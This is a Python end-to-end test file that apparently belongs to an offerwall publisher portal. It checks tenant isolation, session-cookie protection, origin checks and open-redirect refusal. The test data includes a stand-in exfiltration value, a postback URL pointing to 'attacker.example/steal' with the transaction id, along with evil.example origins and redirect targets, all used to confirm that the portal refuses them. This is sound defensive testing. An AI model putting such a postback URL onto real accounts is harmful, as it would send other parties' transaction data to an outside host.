"""A publisher cannot reach another publisher's data: not through the pages, and not by
sending the portal's events by hand over its websocket with another publisher's ids."""

from __future__ import annotations

import re
import time

import httpx
import pytest
from playwright.sync_api import expect
from sqlmodel import Session, select

from models import Offerwall, Postback
from portal.session_routes import SESSION_COOKIE
from tests.e2e.socket_events import SPY, expect_refusals, form, handler_name, send_event
from tests.e2e.steps import (
    approved_publisher_signed_in,
    convert,
    publisher_applied,
    sign_in,
)

pytestmark = pytest.mark.e2e


def test_a_publisher_cannot_reach_another_publishers_data(portal, new_page):
    from portal.postbacks.state import DeliveryState, PostbackState
    from portal.publishers.publishers_state import StaffState
    from portal.state.workspace import WorkspaceState

    mine = new_page()
    mine.add_init_script(SPY)
    approved_publisher_signed_in(portal, mine, "Curious Wall")
    publisher_applied(portal, "Private Wall")
    publisher_applied(portal, "Waiting Wall", approved=False)
    with Session(portal.engine()) as db:
        walls = {w.name: w for w in db.exec(select(Offerwall)).all()}
    private, waiting = walls["Private Wall"], walls["Waiting Wall"]
    convert(portal, private.owid, "their-player")
    time.sleep(0.5)  # the dispatcher settles the postback (no URL: it fails at once)
    with Session(portal.engine()) as db:
        their_postback = db.exec(select(Postback).where(Postback.offerwall_id == private.id)).one()

    # Through the pages: the other publisher's workspace and the staff pages stay closed.
    mine.goto(portal.url + f"/publisher?offerwall={private.id}")
    expect(mine.get_by_text("Your account may not do this.")).to_be_visible()
    expect(mine.get_by_text("Private Wall")).to_have_count(0)
    mine.goto(portal.url + "/staff/publishers")
    expect(mine).to_have_url(re.compile(r"/publisher/?$"))
    expect(mine.get_by_text("Your account cannot open that page.")).to_be_visible()

    # By hand, over the websocket: every handler refuses on the server.
    mine.goto(portal.url + "/publisher/deliveries")
    expect(mine.get_by_role("heading", name="Curious Wall")).to_be_visible()  # loaded
    send_event(
        mine,
        handler_name(DeliveryState, "open"),
        {"postback_id": their_postback.id},
        "/publisher/deliveries",
    )
    expect(mine.get_by_text("No such postback.")).to_be_visible()
    expect(mine.get_by_role("dialog")).to_have_count(0)
    send_event(
        mine,
        handler_name(DeliveryState, "resend"),
        {"postback_id": their_postback.id},
        "/publisher/deliveries",
    )
    expect_refusals(mine, 2, "No such postback.")
    send_event(
        mine,
        handler_name(PostbackState, "save"),
        form(postback_url="https://attacker.example/steal?tx={transaction_id}"),
        f"/publisher/postback?offerwall={private.id}",
    )
    send_event(
        mine,
        handler_name(WorkspaceState, "reveal_key"),
        form(password="publisher-pass-2026"),
        f"/publisher?offerwall={private.id}",
    )
    send_event(
        mine, handler_name(WorkspaceState, "rotate_key"), {}, f"/publisher?offerwall={private.id}"
    )
    send_event(
        mine, handler_name(StaffState, "approve"), {"offerwall_id": waiting.id}, "/staff/publishers"
    )
    send_event(
        mine, handler_name(StaffState, "suspend"), {"offerwall_id": private.id}, "/staff/publishers"
    )
    expect_refusals(mine, 5)
    expect(mine.get_by_test_id("api-key")).to_have_count(0)

    with Session(portal.engine()) as db:
        after = {w.name: w for w in db.exec(select(Offerwall)).all()}
        postback = db.get(Postback, their_postback.id)
    assert after["Private Wall"].postback_url is None
    assert after["Private Wall"].api_key_digest == private.api_key_digest
    assert after["Private Wall"].status == "approved"
    assert after["Waiting Wall"].status == "pending"
    assert (postback.status, postback.attempts) == (their_postback.status, their_postback.attempts)


def test_the_session_token_is_out_of_reach_of_scripts_and_survives_a_reload(portal, page):
    sign_in(page, portal.url, *portal.staff)
    expect(page.get_by_role("heading", name="Dashboard")).to_be_visible()
    [cookie] = [c for c in page.context.cookies() if c["name"] == SESSION_COOKIE]
    assert cookie["value"].startswith("qw_s_")
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Lax", "/")
    # Nothing a script on the page can read holds it.
    readable = page.evaluate(
        "JSON.stringify([document.cookie, Object.entries(localStorage),"
        " Object.entries(sessionStorage)])"
    )
    assert cookie["value"] not in readable and "qw_s_" not in readable
    page.reload()
    expect(page.get_by_role("heading", name="Dashboard")).to_be_visible()
    expect(page.get_by_role("button", name="Account menu")).to_contain_text(portal.staff[0])
    # Signing out deletes the cookie, and the pages close again.
    page.get_by_role("button", name="Account menu").click()
    page.get_by_role("menuitem", name="Sign out").click()
    expect(page).to_have_url(re.compile(r"/login/?$"))
    assert [c for c in page.context.cookies() if c["name"] == SESSION_COOKIE] == []
    page.goto(portal.url + "/staff/publishers")
    expect(page).to_have_url(re.compile(r"/login\?next="))


def test_the_session_endpoints_refuse_another_origin(portal):
    answer = httpx.post(
        portal.url + "/auth/sign-in",
        json={"email": portal.staff[0], "password": portal.staff[1]},
        headers={"Origin": "https://evil.example"},
    )
    assert (answer.status_code, answer.json()["code"]) == (403, "origin_not_allowed")
    assert "set-cookie" not in answer.headers


def _end_every_session(portal) -> None:
    """What an expired or deleted session looks like to the server: no row for the token."""
    from api.core.db import write_session
    from models import PortalSession

    # A write transaction from its first statement: a read that later writes cannot
    # upgrade its lock on SQLite while the server has written since.
    engine = portal.engine()
    with write_session(engine) as session:
        for row in session.exec(select(PortalSession)).all():
            session.delete(row)
    engine.dispose()


def _staff_queue_loaded(page) -> None:
    """The queue's counts are in: the page is live and its on_load has run."""
    expect(page.get_by_role("radio", name=re.compile(r"Approved \(\d+\)"))).to_be_visible()


def test_an_ended_session_leads_any_handler_to_the_sign_in_and_back(portal, page):
    sign_in(page, portal.url, *portal.staff, then="/staff/publishers")
    _staff_queue_loaded(page)
    _end_every_session(portal)
    # A filter, not a page load: before, Reflex showed its generic error here.
    page.get_by_role("radio", name="Approved").click()
    expect(page).to_have_url(
        re.compile(r"/login\?next=%2Fstaff%2Fpublishers|/login\?next=/staff/publishers")
    )
    page.get_by_label("Email").fill(portal.staff[0])
    page.get_by_label("Password").fill(portal.staff[1])
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(re.compile(r"/staff/publishers/?$"))
    _staff_queue_loaded(page)
    # The same for a search form.
    _end_every_session(portal)
    page.get_by_label("Search publishers").fill("anything")
    page.get_by_role("button", name="Search").click()
    expect(page).to_have_url(re.compile(r"/login\?next="))


@pytest.mark.parametrize("attempt", ["//evil.example", "https://evil.example"])
def test_the_sign_in_does_not_follow_next_off_the_site(portal, page, attempt):
    page.goto(portal.url + "/login?next=" + attempt)
    page.get_by_label("Email").fill(portal.staff[0])
    page.get_by_label("Password").fill(portal.staff[1])
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(re.compile(re.escape(portal.url) + r"/staff/?$"))
